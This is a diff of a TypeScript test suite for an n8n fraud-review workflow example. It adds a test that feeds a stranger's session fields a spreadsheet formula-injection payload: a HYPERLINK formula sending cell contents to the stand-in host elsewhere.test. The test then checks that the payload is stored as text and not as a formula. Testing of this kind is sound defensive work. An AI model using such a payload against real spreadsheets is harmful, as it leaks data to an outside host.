@@ -1,10 +1,13 @@
-import { readSpreadsheet } from '../../../playground/spreadsheet';
+import { readFormulas, readSpreadsheet } from '../../../playground/spreadsheet';
 import type { Inquiry } from '../../../simulator';
+import type { WorkflowFile } from '../../../playground/n8nCommand';
 import { itemsOf } from '../workflow';
 import type { ExampleStage } from './exampleStage';
 import { tellOrigins } from './toldOrigins';
 
 const EXAMPLE = 'sessions-for-fraud-review';
+/** How the names of its files begin. */
+const FILES = 'sessions-';
 /** As the example has it. */
 const REFERENCE_ID = 'customer-00042';
 
@@ -32,7 +35,7 @@ export function sessionsForFraudReview(stage: () => ExampleStage): void {
 			[first.id, second.id].sort(),
 		);
 
-		const rows = await readSpreadsheet(n8n.installation, n8n.userFolder.files, 'sessions-');
+		const rows = await readSpreadsheet(n8n.installation, n8n.userFolder.files, FILES);
 		const unopened = world.sessions(second.id).find(({ startedAt }) => startedAt === null);
 		const byInquiry = (inquiry: string) => rows.filter((row) => row.inquiry === inquiry);
 		expect(byInquiry(first.id)).toEqual([
@@ -55,20 +58,50 @@ export function sessionsForFraudReview(stage: () => ExampleStage): void {
 		expect(rows.find(({ session }) => session === unopened?.id)?.['look at'] ?? '').toBe('');
 	});
 
-	it('takes one inquiry alone, and holds a single country against nobody', async () => {
+	it('has what a stranger puts into a browser as text, never as a formula', async () => {
 		const { n8n, server } = stage();
-		const tor = { 'country-code': 'AT', 'is-tor': true, 'is-datacenter': true };
-		await tellOrigins(n8n.simulator, { [second.id]: tor });
+		const formula = '=HYPERLINK("http://elsewhere.test/?x="&A1,"look here")';
+		const stranger = stage().putPerson('Stranger', { status: 'pending' });
+		const told = [
+			'device-name',
+			'os-name',
+			'browser-name',
+			'ip-isp',
+			'region-name',
+			'country-name',
+		];
+		await tellOrigins(n8n.simulator, {
+			[stranger.id]: Object.fromEntries(told.map((name) => [name, formula])),
+		});
+		const workflowId = await stage().import(await exampleFor(stranger.id));
+		expect(await server.run(workflowId, 'Start')).toMatchObject({ status: 'success' });
+		const { installation, userFolder } = n8n;
+		const rows = await readSpreadsheet(installation, userFolder.files, FILES);
+		expect(rows).toEqual([
+			expect.objectContaining({ inquiry: stranger.id, country: formula, network: formula }),
+		]);
+		expect(await readFormulas(installation, userFolder.files, FILES)).toEqual([]);
+	});
 
+	/** The example with one inquiry filled in. */
+	async function exampleFor(inquiryId: string): Promise<WorkflowFile> {
 		const workflow = await stage().example(EXAMPLE);
 		const whom = workflow.nodes.find(({ name }) => name === 'Whom?');
 		whom!.parameters = JSON.parse(
 			JSON.stringify(whom!.parameters).replace(
 				'"name":"inquiryId","value":""',
-				`"name":"inquiryId","value":"${second.id}"`,
+				`"name":"inquiryId","value":"${inquiryId}"`,
 			),
 		);
-		const workflowId = await stage().import(workflow);
+		return workflow;
+	}
+
+	it('takes one inquiry alone, and holds a single country against nobody', async () => {
+		const { n8n, server } = stage();
+		const tor = { 'country-code': 'AT', 'is-tor': true, 'is-datacenter': true };
+		await tellOrigins(n8n.simulator, { [second.id]: tor });
+
+		const workflowId = await stage().import(await exampleFor(second.id));
 		const execution = await server.run(workflowId, 'Start');
 		expect(execution.status).toBe('success');
 		const rows = itemsOf(execution, 'Describe Session').map((row) => [
